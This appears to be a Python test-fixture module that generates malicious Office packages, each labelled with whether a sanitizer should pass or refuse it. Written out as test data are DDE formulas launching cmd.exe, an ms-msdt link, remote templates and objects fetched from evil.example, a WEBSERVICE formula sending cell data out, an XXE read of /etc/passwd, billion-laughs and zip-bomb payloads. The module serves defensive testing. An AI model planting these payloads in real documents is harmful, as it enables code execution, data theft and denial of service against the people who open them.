"""Hostile Office packages, written part by part; each name says what the file is."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator, Mapping

Made = tuple[str, str, bytes, str]
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "application/vnd.openxmlformats-package"
BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
TEXT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


def archive(parts: Mapping[str, bytes], *, comment: bytes = b"") -> bytes:
    """A ZIP of these parts in their order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, content in parts.items():
            entry = zipfile.ZipInfo(name, (2022, 6, 10, 0, 0, 0))
            package.writestr(entry, content, zipfile.ZIP_DEFLATED, 1 if len(content) > 1_000_000 else 9)
        package.comment = comment
    return out.getvalue()


def types(main: str, part: str, more: str = "") -> bytes:
    return (
        f'{XML}<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="{PACKAGE}.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/>{more}</Types>'
    ).encode()


def relations(*told: tuple[str, str, str]) -> bytes:
    """(kind, target, mode) of each."""
    rows = "".join(
        f'<Relationship Id="r{at}" Type="{OFFICE}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"/>' if mode else "/>")
        for at, (kind, target, mode) in enumerate(told)
    )
    return f'{XML}<Relationships xmlns="{RELATIONS}">{rows}</Relationships>'.encode()


def book(cells: str = '<row r="1"><c r="A1"><v>1</v></c></row>', **more: object) -> dict[str, bytes]:
    """The parts of a small workbook."""
    return {
        "[Content_Types].xml": types(BOOK_TYPE, "xl/workbook.xml", str(more.get("types", ""))),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": (
            f'{XML}<workbook xmlns="{SPREADSHEET}" xmlns:r="{OFFICE}"><sheets><sheet name="a" sheetId="1" r:id="r0"/>'
            f"</sheets>{more.get('names', '')}</workbook>"
        ).encode(),
        "xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml", "")),
        "xl/worksheets/sheet1.xml": (
            f'{XML}<worksheet xmlns="{SPREADSHEET}">{more.get("head", "")}<sheetData>{cells}</sheetData></worksheet>'
        ).encode(),
    }


def text(
    body: str = "<w:p><w:r><w:t>approved</w:t></w:r></w:p>", *told: tuple[str, str, str], more: str = ""
) -> dict[str, bytes]:
    """The parts of a small document."""
    return {
        "[Content_Types].xml": types(TEXT_TYPE, "word/document.xml", more),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": (
            f'{XML}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>'
        ).encode(),
        "word/_rels/document.xml.rels": relations(*told),
    }


def formula(words: str) -> bytes:
    return archive(book(f'<row r="1"><c r="A1"><f>{words}</f><v>0</v></c></row>'))


def field(*runs: str) -> bytes:
    inside = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return archive(text(f"<w:p>{begin}{inside}{end}</w:p>"))


def lying(parts: Mapping[str, bytes], name: str, size: int) -> bytes:
    """The directory claims another size for one part."""
    whole = bytearray(archive(parts))
    at = whole.rindex(name.encode()) - 46
    struct.pack_into("<I", whole, at + 24, size)
    return bytes(whole)


def documents() -> Iterator[Made]:
    external = "External"
    yield "an honest DOCX", "a.docx", archive(text()), "clean"
    yield (
        "a DOCX with a link to a page",
        "a.docx",
        archive(text("", ("hyperlink", "https://www.example.gov.cn/", external))),
        "clean",
    )
    yield "a DOCX under the name of a picture", "a.png", archive(text()), "clean"
    yield "a macro", "a.docx", archive({**text(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "refused"
    yield (
        "a macro under another name",
        "a.docx",
        archive({**text("", ("vbaProject", "a.xml", "")), "word/a.xml": b"<a/>"}),
        "refused",
    )
    yield (
        "a type that allows macros",
        "a.docx",
        archive(
            text()
            | {
                "[Content_Types].xml": types(
                    "application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml"
                )
            }
        ),
        "refused",
    )
    yield (
        "a template in place of a document",
        "a.docx",
        archive(
            text()
            | {"[Content_Types].xml": types(TEXT_TYPE.replace("document.main", "template.main"), "word/document.xml")}
        ),
        "refused",
    )
    yield (
        "a template from outside",
        "a.docx",
        archive(
            {
                **text(),
                "word/_rels/settings.xml.rels": relations(("attachedTemplate", "http://evil.example/t.dotm", external)),
            }
        ),
        "refused",
    )
    yield (
        "a template from a shared folder",
        "a.docx",
        archive(
            {**text(), "word/_rels/settings.xml.rels": relations(("attachedTemplate", "\\\\evil\\t.dotm", external))}
        ),
        "refused",
    )
    yield (
        "a picture from outside",
        "a.docx",
        archive(text("", ("image", "http://evil.example/pixel.png", external))),
        "refused",
    )
    yield (
        "an object from outside",
        "a.docx",
        archive(text("", ("oleObject", "http://evil.example/a.html!x-usc:", external))),
        "refused",
    )
    yield (
        "a target outside without saying so",
        "a.docx",
        archive(text("", ("image", "file:///c:/a.png", ""))),
        "refused",
    )
    yield "a frame from outside", "a.docx", archive(text("", ("frame", "http://evil.example/", external))), "refused"
    yield (
        "an embedded object",
        "a.docx",
        archive(
            {
                **text("", ("oleObject", "embeddings/oleObject1.bin", "")),
                "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0",
            }
        ),
        "refused",
    )
    yield (
        "an embedded workbook",
        "a.docx",
        archive({**text("", ("package", "embeddings/a.xlsx", "")), "word/embeddings/a.xlsx": archive(book())}),
        "refused",
    )
    yield "a control", "a.docx", archive({**text(), "word/activeX/activeX1.xml": b"<a/>"}), "refused"
    yield (
        "another document poured in (altChunk)",
        "a.docx",
        archive({**text("<w:altChunk/>", ("aFChunk", "a.xml", "")), "word/a.xml": b"<a/>"}),
        "refused",
    )
    yield (
        "a link that is a script",
        "a.docx",
        archive(text("", ("hyperlink", "javascript:alert(1)", external))),
        "refused",
    )
    yield (
        "a link that asks Windows for help",
        "a.docx",
        archive(text("", ("hyperlink", "ms-msdt:/id PCWDiagnostic", external))),
        "refused",
    )
    yield "a DDE field", "a.docx", field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "refused"
    yield "a DDE field split over runs", "a.docx", field("D", "DE", "AUTO cmd"), "refused"
    yield (
        "a simple field that takes in text",
        "a.docx",
        archive(text('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example&quot;"/></w:p>')),
        "refused",
    )
    yield "a picture taken in by a field", "a.docx", field(' INCLUDEPICTURE "\\\\\\\\evil\\\\a.png"'), "refused"
    yield (
        "a program under the name of a picture",
        "a.docx",
        archive({**text(), "word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 90}),
        "refused",
    )
    yield (
        "an archive under the name of a picture",
        "a.docx",
        archive({**text(), "word/media/image1.png": archive({"a": b"b"})}),
        "refused",
    )
    yield "a script among the parts", "a.docx", archive({**text(), "word/media/run.vbs": b"x"}), "refused"
    yield (
        "a billion laughs",
        "a.docx",
        archive(text() | {"word/document.xml": f'{LAUGHS}<w:document xmlns:w="{WORD}">&i;</w:document>'.encode()}),
        "refused",
    )
    yield (
        "an entity from a file",
        "a.docx",
        archive(text() | {"word/document.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        "refused",
    )
    yield (
        "an entity in UTF-16",
        "a.docx",
        archive(
            text()
            | {
                "word/document.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]><a/>'.encode(
                    "utf-16"
                )
            }
        ),
        "refused",
    )
    yield (
        "an encoding nobody expects",
        "a.docx",
        archive(text() | {"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}),
        "refused",
    )
    yield "500,000 elements deep", "a.docx", archive(text("<w:a>" * 500_000 + "</w:a>" * 500_000)), "refused"
    yield (
        "XML that does not end",
        "a.docx",
        archive(text() | {"word/document.xml": b"<w:document xmlns:w='x'><w:body>"}),
        "refused",
    )


def workbooks() -> Iterator[Made]:
    yield "an honest XLSX", "a.xlsx", archive(book()), "clean"
    yield "an XLSX with a sum", "a.xlsx", formula("SUM(A2:A9)*IF(B1=&quot;a|b&quot;,1,2)"), "clean"
    yield "an XLSX under the name of a document", "a.docx", archive(book()), "clean"
    yield "a macro", "a.xlsx", archive({**book(), "xl/vbaProject.bin": b"\xd0\xcf"}), "refused"
    yield "a sheet of old macros", "a.xlsx", archive({**book(), "xl/macrosheets/sheet1.xml": b"<a/>"}), "refused"
    yield (
        "a link to another workbook",
        "a.xlsx",
        archive({**book(), "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        "refused",
    )
    yield (
        "a DDE link",
        "a.xlsx",
        archive(
            {
                **book(),
                "xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd" ddeTopic="/C calc"/>',
            }
        ),
        "refused",
    )
    yield "a DDE formula", "a.xlsx", formula("cmd|'/C calc'!A0"), "refused"
    yield "a DDE formula written as a number", "a.xlsx", formula("cmd&#124;'/C calc'!A0"), "refused"
    yield "a DDE formula broken by a comment", "a.xlsx", formula("cmd<!-- -->|'/C calc'!A0"), "refused"
    yield "a DDE formula inside CDATA", "a.xlsx", formula("<![CDATA[cmd|'/C calc'!A0]]>"), "refused"
    yield (
        "a formula that asks a server",
        "a.xlsx",
        formula("WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)"),
        "refused",
    )
    yield (
        "a formula that calls a library",
        "a.xlsx",
        formula("CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;)"),
        "refused",
    )
    yield "a formula that reads a shared folder", "a.xlsx", formula("'\\\\evil\\s\\[a.xlsx]S'!A1"), "refused"
    yield (
        "a formula that links to a script",
        "a.xlsx",
        formula("HYPERLINK(&quot;javascript:alert(1)&quot;,&quot;x&quot;)"),
        "refused",
    )
    yield (
        "a name that runs",
        "a.xlsx",
        archive(book(names="<definedName name='_xlnm.Auto_Open'>EXEC(&quot;calc&quot;)</definedName>")),
        "refused",
    )
    yield (
        "a condition that runs",
        "a.xlsx",
        archive(book(head="<cfRule><formula>cmd|'/C calc'!A0</formula></cfRule>")),
        "refused",
    )
    yield "a query to a database", "a.xlsx", archive({**book(), "xl/connections.xml": b"<connections/>"}), "refused"
    yield "1,000,000,000 rows declared", "a.xlsx", archive(book(head='<dimension ref="A1:XFD1000000000"/>')), "refused"
    yield (
        "a row beyond every sheet",
        "a.xlsx",
        archive(book('<row r="1000000000"><c r="A1000000000"><v>1</v></c></row>')),
        "refused",
    )
    yield (
        "a sheet of 60 megabytes in 60 KB",
        "a.xlsx",
        archive(book() | {"xl/worksheets/sheet1.xml": b"<a>" + bytes(60_000_000) + b"</a>"}),
        "refused",
    )
    yield (
        "shared strings of 70 megabytes",
        "a.xlsx",
        archive({**book(), "xl/sharedStrings.xml": b"<sst><si><t>" + b"ab" * 35_000_000 + b"</t></si></sst>"}),
        "refused",
    )
    yield (
        "a part that is longer than the directory says",
        "a.xlsx",
        lying(book(), "xl/worksheets/sheet1.xml", 40),
        "refused",
    )
    yield "a part that claims four gigabytes", "a.xlsx", lying(book(), "xl/worksheets/sheet1.xml", 2**32 - 2), "refused"
    yield (
        "a billion laughs among shared strings",
        "a.xlsx",
        archive({**book(), "xl/sharedStrings.xml": f"{LAUGHS}<sst>&i;</sst>".encode()}),
        "refused",
    )


def made() -> Iterator[Made]:
    for group in (documents, workbooks):
        yield from group()
